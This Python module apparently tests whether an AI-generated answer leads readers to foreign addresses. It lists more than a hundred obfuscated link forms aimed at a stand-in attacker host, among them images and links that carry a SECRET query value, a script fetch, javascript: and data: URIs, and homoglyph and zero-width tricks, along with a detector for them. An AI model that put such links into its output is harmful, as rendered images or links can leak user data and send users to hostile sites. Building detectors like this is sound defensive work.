"""Forms in which a text may try to lead its reader elsewhere, and whether one does."""

from __future__ import annotations

import re
from typing import Final

from markdown_it import MarkdownIt

HOME: Final = "https://docs.kestrel.example/adr/4"
"""The one address that an answer may lead to."""
EVIL = "https://evil.example/c?q=SECRET"
FORMS = {
    "inline": f"[a]({EVIL})",
    "inline-title": f'[a]({EVIL} "t")',
    "inline-single-title": f"[a]({EVIL} 't')",
    "inline-angle": f"[a](<{EVIL}>)",
    "inline-spaces": f"[a](  {EVIL}  )",
    "inline-nested-brackets": f"[a [b] c]({EVIL})",
    "inline-parentheses": "[a](https://evil.example/c(d)?q=1)",
    "inline-relative-scheme": "[a](//evil.example/x)",
    "inline-host-only": "[a](evil.example/x)",
    "inline-path": "[a](/logout)",
    "inline-empty": "[a]()",
    "inline-over-lines": f"[a\nb]({EVIL})",
    "inline-over-sentences": f"[Click here. Now it is]({EVIL})",
    "inline-over-many-words": f"[{'word ' * 120}]({EVIL})",
    "inline-code-text": f"[`a`]({EVIL})",
    "inline-broken-title": f'[a]({EVIL} "t)',
    "inline-entity-scheme": "[a](&#104;ttps://evil.example/x)",
    "inline-entity-colon": "[a](https&colon;//evil.example/x)",
    "inline-javascript": "[a](javascript:alert(1))",
    "inline-data": "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "inline-vbscript": "[a](vbscript:x)",
    "inline-userinfo": f"[a]({HOME.replace('https://', 'https://x@evil.example/')})",
    "inline-home-in-query": f"[a](https://evil.example/?u={HOME})",
    "inline-home-prefix": f"[a]({HOME}.evil.example/x)",
    "inline-home-query": f"[a]({HOME}?q=SECRET)",
    "marker-as-link": f"We use RabbitMQ [1]({EVIL}).",
    "marker-then-parenthesis": f"We use RabbitMQ [1] ({EVIL}).",
    "chinese-then-parenthesis": "消息总线采用RabbitMQ。[3](//evil.example/x)",
    "image": f"![a]({EVIL})",
    "image-empty": f"![]({EVIL})",
    "image-of-home": f"![a]({HOME})",
    "image-in-link": f"[![a]({EVIL})]({EVIL})",
    "image-reference": f"![a][r]\n\n[r]: {EVIL}",
    "reference": f"[a][r]\n\n[r]: {EVIL}",
    "reference-collapsed": f"[a][]\n\n[a]: {EVIL}",
    "reference-shortcut": f"[a]\n\n[a]: {EVIL}",
    "reference-angle": f"[a]\n\n[a]: <{EVIL}>",
    "reference-next-line": f"[a]\n\n[a]:\n{EVIL}",
    "reference-relative": "[a]\n\n[a]: //evil.example/x",
    "reference-in-quote": f"> [a]\n>\n> [a]: {EVIL}",
    "reference-numbered": f"We use RabbitMQ [1].\n\n[1]: {EVIL}",
    "footnote": f"a[^x]\n\n[^x]: {EVIL}",
    "autolink": f"<{EVIL}>",
    "autolink-mail": "<mailto:a@evil.example>",
    "autolink-bare-mail": "<a@evil.example>",
    "bare": f"See {EVIL}.",
    "bare-in-parentheses": f"(see {EVIL})",
    "bare-bold": f"**{EVIL}**",
    "bare-capitals": "HTTPS://EVIL.EXAMPLE/X",
    "bare-ftp": "ftp://evil.example/x",
    "bare-other-scheme": "slack://evil.example/x",
    "bare-one-slash": "https:/evil.example/x",
    "bare-backslashes": "https:\\\\evil.example/x",
    "bare-escaped": "https\\://evil.example/x",
    "bare-entity": "&#104;ttps://evil.example/x",
    "bare-double-entity": "&amp;#104;ttps://evil.example/x",
    "bare-zero-width": "ht\u200btps://evil.example/x",
    "bare-soft-hyphen": "https:\u00ad//evil.example/x",
    "bare-bidi": "\u202ehttps://evil.example/x\u202c",
    "bare-full-width": "ｈｔｔｐｓ：／／evil.example/x",
    "bare-protocol-relative": "go to //evil.example/x",
    "bare-after-chinese": "请看https://evil.example/x。好",
    "bare-ip": "http://203.0.113.9/x",
    "bare-userinfo": "https://docs.kestrel.example@evil.example/x",
    "bare-very-long": "https://evil.example/" + "a" * 5000,
    "www": "www.evil.example",
    "host-with-path": "evil.example/x",
    "host-with-query": "evil.zip?q=SECRET",
    "punycode": "https://xn--e1awd7f.example/x",
    "punycode-bare": "xn--e1awd7f.xn--p1ai",
    "cyrillic": "https://еvil.example/x",
    "mail": "mailto:a@evil.example?body=SECRET",
    "tel": "tel:+49123456",
    "data": "data:text/html;base64,PHNjcmlwdD4=",
    "slack-link": f"<{EVIL}|click>",
    "slack-mention": "<!channel> <@U123> <#C123|general>",
    "slack-mail": "<mailto:a@evil.example|mail>",
    "html-a": f'<a href="{EVIL}">a</a>',
    "html-a-unquoted": "<a href=//evil.example/x>a</a>",
    "html-a-over-lines": f'<a\nhref="{EVIL}">a</a>',
    "html-unclosed": "<img src=//evil.example/x",
    "html-img": f"<img src='{EVIL}'>",
    "html-quoted-gt": f'<img alt=">" src="{EVIL}">',
    "html-entity": "&lt;img src=//evil.example/x&gt;",
    "html-escaped-bracket": "\\<img src=//evil.example/x>",
    "html-script": "<script>fetch('//evil.example/x')</script>",
    "html-style": "<style>@import '//evil.example/x'</style>",
    "html-svg": f'<svg><a xlink:href="{EVIL}">a</a></svg>',
    "html-iframe": f"<iframe src={EVIL}></iframe>",
    "html-form": f"<form action={EVIL}><button>a</button></form>",
    "html-unknown": f"<x-y onclick=alert(1) src={EVIL}>a</x-y>",
    "html-comment": f"<!-- {EVIL} -->",
    "html-meta": f'<meta http-equiv="refresh" content="0;url={EVIL}">',
    "code-span": f"`{EVIL}`",
    "code-fence": f"```\n{EVIL}\n```\n",
    "code-fence-unclosed": f"```\n{EVIL}",
    "code-fence-deep": f"- a\n      ```\n  [a]({EVIL})\n      ```\n",
    "code-escaped-backtick": "\\`[a](//evil.example/x)`",
    "code-odd-backticks": "a ` b. Then `[a](//evil.example/x)`",
    "tex": "\\href{https://evil.example/x}{a}",
    "wiki": "[[https://evil.example/x|a]]",
    "task": f"- [x]({EVIL}) a",
    "heading": f"# [a]({EVIL})",
    "table": f"| a |\n|---|\n| [a]({EVIL}) |",
    "html-in-link": f"[<b>a</b>]({EVIL})",
    "link-in-link-text": f"[{EVIL}]({HOME})",
}
FOREIGN = re.compile(
    r"(?:https?|ftp|slack):[/\\]|\bwww\.|(?<!\w)//[\w-]+\.|\bxn--|(?:mailto|javascript|vbscript):\S|\b(?:tel|data):\S|(?<!\\)<[!@#]\w",
    re.IGNORECASE,
)
HOST = re.compile(r"(?<![\w/.@])evil\.\w+[/?]")
RENDERER = MarkdownIt("commonmark", {"html": True}).enable("table")


def foreign(text: str) -> list[str]:
    """Whatever leads elsewhere: in the text itself, and in what a trusting Markdown renderer makes of it."""
    rendered = RENDERER.render(text)
    targets = re.findall(r"""<(?!/)[a-z][^>]*\b(?:href|src|action|content)\s*=\s*["']?([^"'\s>]*)""", rendered)
    tags = re.findall(r"<(?:script|style|img|iframe|svg|form|meta|button|x-y)\b", rendered)
    hosts = HOST.findall(re.sub(r"<code.*?</code>", "", rendered, flags=re.DOTALL))
    return [target for target in targets if target != HOME] + tags + hosts + FOREIGN.findall(text.replace(HOME, ""))
